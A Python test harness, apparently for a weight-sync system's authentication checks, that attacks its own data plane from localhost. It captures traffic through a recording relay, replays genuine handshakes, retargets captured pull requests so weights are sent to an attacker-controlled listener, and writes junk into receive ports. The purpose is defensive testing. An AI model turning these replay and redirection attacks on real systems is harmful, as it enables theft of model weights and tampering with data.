"""auth_attack.py: what a client without the token can try against wsync's
data plane, with raw sockets only (no wsync code). Used by auth_test.sh.

  relay LISTEN TARGET DIR       forward TCP LISTEN -> TARGET, recording every
                                connection's bytes (DIR/<n>.c2s, DIR/<n>.s2c)
  pull MODE PULL DIGEST [CAP]   ask a trainer's pull port for the weights,
                                naming our own TCP listener; MODE: old (the
                                pre-handshake framed JSON), noproof (a
                                handshake hello without proof), replay (a
                                captured genuine hello and request, verbatim),
                                retarget (the same, pointed at our listener)
  put PORT CAP                  write bytes into an engine's tcp receive port
                                (nonce and region from a captured request):
                                the old hello, then a handshake without proof
Each attack prints one JSON line: what came back and how many bytes (and
connections) our listener received.
"""
import json
import os
import socket
import struct
import sys
import threading
import time

HS_MAGIC = 0x73687377
TCP_MAGIC = 0x70637477


def hostport(s):
    h, p = s.rsplit(":", 1)
    return h, int(p)


def recv_exact(sock, n, timeout=10.0):
    sock.settimeout(timeout)
    buf = b""
    try:
        while len(buf) < n:
            b = sock.recv(n - len(buf))
            if not b:
                break
            buf += b
    except (socket.timeout, ConnectionResetError):
        pass
    return buf


def drain(sock, timeout=3.0):
    """Everything the peer sends until it closes (or goes quiet)."""
    sock.settimeout(timeout)
    buf = b""
    try:
        while True:
            b = sock.recv(65536)
            if not b:
                return buf, True
            buf += b
    except socket.timeout:
        return buf, False
    except ConnectionResetError:
        return buf, True


class Sink:
    """Our own TCP listener: counts connections and bytes pushed at it."""

    def __init__(self):
        self.s = socket.socket()
        self.s.bind(("127.0.0.1", 0))
        self.s.listen(16)
        self.port = self.s.getsockname()[1]
        self.conns = 0
        self.bytes = 0
        threading.Thread(target=self.run, daemon=True).start()

    def run(self):
        while True:
            c, _ = self.s.accept()
            self.conns += 1
            threading.Thread(target=self.read, args=(c,), daemon=True).start()

    def read(self, c):
        while True:
            b = c.recv(1 << 20)
            if not b:
                return
            self.bytes += len(b)


def tcp_addr_hex(port, nonce=0x1234):
    hp = ("127.0.0.1:%d" % port).encode().ljust(96, b"\0")
    return (struct.pack("<IHxxQ", TCP_MAGIC, 1, nonce) + hp).hex()


def tcp_key_hex(nonce=0x1234, region=1, length=1 << 40):
    return struct.pack("<IHxxIxxxxQQ", TCP_MAGIC, 1, region, nonce, length).hex()


def pull_request(sink_port, digest):
    return {"version": 1, "engine": "intruder", "local_rank": 0, "local_ranks": 1, "req": 4242,
            "transport": "tcp", "addr": tcp_addr_hex(sink_port), "key": tcp_key_hex(),
            "layout_digest": digest, "timeout_ms": 5000}


def captured_hello(cap):
    """The first captured client->server stream that carries a pull request:
    (hello bytes, payload bytes)."""
    for name in sorted(os.listdir(cap)):
        if not name.endswith(".c2s"):
            continue
        data = open(os.path.join(cap, name), "rb").read()
        if len(data) < 80 or struct.unpack_from("<I", data)[0] != HS_MAGIC:
            continue
        n = struct.unpack_from("<I", data, 8)[0]
        payload = data[80:80 + n]
        if len(payload) == n and payload.startswith(b"{"):
            return data[:80], payload
    raise SystemExit("no captured pull request in %s" % cap)


def finish_of(buf):
    """Status and reason of the FINISH after a 40-byte challenge, if any."""
    if len(buf) < 40 + 52 or struct.unpack_from("<I", buf, 40)[0] != HS_MAGIC:
        return None, ""
    status, mlen = struct.unpack_from("<iH", buf, 48)
    return status, buf[92:92 + mlen].decode(errors="replace")


def attack_pull(mode, pull, digest, cap=None):
    sink = Sink()
    s = socket.create_connection(hostport(pull), timeout=10)
    got = b""
    if mode == "old":
        body = json.dumps(pull_request(sink.port, digest)).encode()
        s.sendall(struct.pack("<I", len(body)) + body)
    else:
        got = recv_exact(s, 40)                      # the trainer's challenge
        if mode == "noproof":
            body = json.dumps(pull_request(sink.port, digest)).encode()
            # the purpose the server's challenge names (pull port or relay port)
            hello = struct.pack("<IBBBBII", HS_MAGIC, 1, 2, got[6], 0, len(body), 0) + os.urandom(32) + bytes(32)
        else:
            hello, body = captured_hello(cap)
            if mode == "retarget":
                req = json.loads(body)
                req["addr"] = tcp_addr_hex(sink.port)
                body = json.dumps(req, separators=(",", ":")).encode()
                hello = hello[:8] + struct.pack("<I", len(body)) + hello[12:]
        s.sendall(hello + body)
    rest, closed = drain(s)
    got += rest
    s.close()
    time.sleep(1.0)                                   # anything pushed at us would have started by now
    status, why = finish_of(got)
    print(json.dumps({"mode": mode, "answer_bytes": len(got), "closed": closed, "status": status, "why": why,
                      "sink_conns": sink.conns, "sink_bytes": sink.bytes}))


def attack_put(port, cap):
    _, body = captured_hello(cap)
    req = json.loads(body)
    addr, key = bytes.fromhex(req["addr"]), bytes.fromhex(req["key"])
    nonce = struct.unpack_from("<Q", addr, 8)[0]
    region = struct.unpack_from("<I", key, 8)[0]
    junk = b"\xee" * 65536
    hdr = struct.pack("<IHxxiIQQQ", TCP_MAGIC, 1, 0, region, 0, len(junk), 7)
    out = {}
    # The old protocol: hello, put header, payload, straight away.
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    try:
        s.sendall(struct.pack("<IHxxixxxxQ", TCP_MAGIC, 1, 0, nonce) + hdr + junk)
    except (BrokenPipeError, ConnectionResetError):
        pass
    got, closed = drain(s)
    s.close()
    out["old"] = {"closed": closed, "status": finish_of(got)[0], "why": finish_of(got)[1]}
    # The handshake, without proof, carrying a genuine-looking tcp hello.
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    ch = recv_exact(s, 40)
    tcp_hello = struct.pack("<IHxxixxxxQ", TCP_MAGIC, 1, 0, nonce)
    hello = struct.pack("<IBBBBII", HS_MAGIC, 1, 2, 2, 0, len(tcp_hello), 0) + os.urandom(32) + bytes(32)
    s.sendall(hello + tcp_hello)
    fin = recv_exact(s, 52)
    if len(fin) == 52:
        fin += recv_exact(s, struct.unpack_from("<H", fin, 12)[0])
    try:
        s.sendall(hdr + junk)
    except (BrokenPipeError, ConnectionResetError):
        pass
    _, closed = drain(s)
    s.close()
    st, why = finish_of(ch + fin)
    out["noproof"] = {"closed": closed, "status": st, "why": why}
    print(json.dumps(out))


def relay(listen, target, capdir):
    os.makedirs(capdir, exist_ok=True)
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(hostport(listen))
    ls.listen(64)
    n = 0

    def pump(a, b, path):
        with open(path, "wb") as f:
            while True:
                try:
                    d = a.recv(1 << 16)
                except OSError:
                    d = b""
                if not d:
                    break
                f.write(d)
                f.flush()
                try:
                    b.sendall(d)
                except OSError:
                    break
        try:
            b.shutdown(socket.SHUT_WR)
        except OSError:
            pass

    while True:
        c, _ = ls.accept()
        n += 1
        t = socket.create_connection(hostport(target))
        base = os.path.join(capdir, "%04d" % n)
        threading.Thread(target=pump, args=(c, t, base + ".c2s"), daemon=True).start()
        threading.Thread(target=pump, args=(t, c, base + ".s2c"), daemon=True).start()


if __name__ == "__main__":
    cmd = sys.argv[1]
    if cmd == "relay":
        relay(sys.argv[2], sys.argv[3], sys.argv[4])
    elif cmd == "pull":
        attack_pull(sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5] if len(sys.argv) > 5 else None)
    elif cmd == "put":
        attack_put(int(sys.argv[2]), sys.argv[3])
    else:
        raise SystemExit("unknown command " + cmd)
